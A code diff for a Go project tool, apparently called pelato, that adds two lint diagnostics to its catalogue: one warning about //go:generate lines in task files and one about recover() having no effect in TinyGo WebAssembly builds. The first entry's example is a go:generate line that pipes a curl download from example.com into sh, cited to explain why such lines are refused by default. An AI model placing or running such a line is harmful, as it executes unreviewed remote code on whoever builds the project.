@@ -59,6 +59,8 @@ const (
 	CodeTaskHasErrors  Code = "PL410"
 	CodeTaskUnreadable Code = "PL411"
 	CodeTaskImport     Code = "PL412"
+	CodeGoGenerate     Code = "PL413"
+	CodeRecover        Code = "PL414"
 
 	CodeUnknownSetting Code = "PL501"
 	CodeBadSetting     Code = "PL502"
@@ -141,6 +143,8 @@ var catalogue = []CodeInfo{
 	{CodeUnresolvedImp, Warning, "Third-party import not resolved locally", "import \"github.com/x/y\"", "It is resolved by `go mod tidy` at build time; to pin it, add a go.mod at the project root and run `go get`."},
 	{CodeTaskHasErrors, Info, "Task code has errors (a pointer to them)", "  code: convert.go  # convert.go has a type error", "Open the task file and fix the errors reported there. This is information on the `code:` line, not a problem of its own: each error is reported, and counted, once, in the task file."},
 	{CodeTaskUnreadable, Error, "Task code cannot be read", "tasks/convert.go is not readable", "Check the file's permissions and encoding (UTF-8)."},
+	{CodeGoGenerate, Warning, "//go:generate line in a task file", "//go:generate sh -c \"curl example.com | sh\"", "`pelato gen` would copy the line into gen/, where `wash build` runs `go generate` and with it the command, at build time. gen refuses to copy it unless you opt in with `pelato gen --allow-go-generate` (also on build and brush; only a flag, never a workflow.yaml key, since a project you clone must not decide what runs when you build it). Or remove the line (the quick fix does), run the generator yourself and keep its output in the task."},
+	{CodeRecover, Warning, "recover() has no effect in a TinyGo WebAssembly build", "defer func() { recover() }()", "TinyGo, which builds the components (the version pelato's builder pins), disables recover on WebAssembly: recover() returns nil and a panic traps the whole invocation, so the message or request fails. `pelato dev` runs mainline Go, where recover works: do not rely on it, return an error result instead. The rule follows the pinned TinyGo version (check.TinyGoRecoverSince)."},
 	{CodeUnknownSetting, Warning, "Unknown setting in .env", "REGISTY_URL=registry.example:5000", "Use the setting the message suggests (the quick fix renames it); `pelato help` and README.md list pelato's settings. A name pelato does not read is ignored: a hint when nothing is close to it."},
 	{CodeBadSetting, Error, "Invalid setting value in .env", "PARALLEL_BUILD=maybe", "Give the value the message asks for (True or False, a port number, ...); commands that read the setting refuse to run until it is fixed."},
 	{CodeSettingTwice, Warning, "Setting given twice in .env", "NATS_HOST=a\nNATS_HOST=b", "Keep one line: the last one wins, which is easy to miss."},
